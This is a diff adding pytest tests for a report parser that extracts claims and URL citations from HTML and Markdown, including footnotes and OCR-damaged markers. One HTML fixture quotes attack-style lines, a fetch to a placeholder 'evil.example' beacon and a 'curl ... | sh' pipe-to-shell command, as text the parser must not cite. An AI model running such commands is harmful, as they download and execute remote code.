@@ -320,3 +320,43 @@ def test_code_is_quoted_material_and_cites_only_when_it_holds_nothing_but_a_url(
     assert [(c.text, [(x.url, x.via) for x in c.citations]) for c in claims] == [
         ("The lure used https://lure.example/tube on targets.", [("https://lure.example/tube", "inline")]),
         ("The panel was listed on its own.", [("https://c2.example/panel", "line")])]
+
+
+def test_html_code_follows_the_same_rule(tmp_path: Path) -> None:
+    from evarchive.reports import read_html
+
+    path = tmp_path / "r.html"
+    path.write_text("<html><body><p>The lure used <code>https://lure.example/tube</code> on targets.</p>"
+                    "<p>The script ran <code>fetch('https://evil.example/beacon')</code> on load.</p>"
+                    "<pre>curl https://evil.example/collect?id=1 | sh</pre>"
+                    "<p>The panel was listed.</p><pre>https://c2.example/panel</pre></body></html>",
+                    encoding="utf-8")
+    claims = segment(read_html(path.read_bytes(), path))
+    assert [(c.text, [(x.url, x.via) for x in c.citations]) for c in claims] == [
+        ("The lure used https://lure.example/tube on targets.", [("https://lure.example/tube", "inline")]),
+        ("The panel was listed.", [("https://c2.example/panel", "line")])]
+
+
+def test_markdown_written_with_html_links_and_notes_is_read_as_its_html(tmp_path: Path) -> None:
+    path = tmp_path / "r.md"
+    path.write_text("---\ntitle: Policy\n---\n\n# Policy\n\n"
+                    "Agencies spend billions on software.<sup><a href=\"#fn1\" id=\"fnr1\">1</a></sup>\n\n"
+                    "<ol><li id=\"fn1\"><sup>1</sup> See <a href=\"https://gov.example/m-16\">M-16</a>."
+                    "<a href=\"#fnr1\">&#8617;</a></li></ol>\n", encoding="utf-8")
+    claims = segment(read_markdown(path.read_bytes(), path))
+    assert [(c.text, [(x.url, x.via) for x in c.citations]) for c in claims] == [
+        ("Agencies spend billions on software.", [("https://gov.example/m-16", "footnote")])]
+
+
+def test_a_note_that_no_marker_refers_to_is_a_claim_of_its_own(tmp_path: Path) -> None:
+    """OCR text loses markers ("[^140]" became " 140"): the note's URLs must not vanish."""
+    path = tmp_path / "r.md"
+    path.write_text("The files were released online. 140\n\n"
+                    "A sentence with a real marker.[^2]\n\n"
+                    "[^140]: See, e.g., Internet archive, \"https://leaks.example/\" (archive date Nov. 10, 2016).\n"
+                    "[^2]: https://marked.example/two\n", encoding="utf-8")
+    claims = segment(read_markdown(path.read_bytes(), path))
+    assert [(c.text, c.scope, c.line, [(x.url, x.via, x.note) for x in c.citations]) for c in claims] == [
+        ("A sentence with a real marker.", "paragraph", 3, [("https://marked.example/two", "footnote", "2")]),
+        ("See, e.g., Internet archive, \"https://leaks.example/\" (archive date Nov. 10, 2016).", "note", 5,
+         [("https://leaks.example/", "footnote", "140")])]
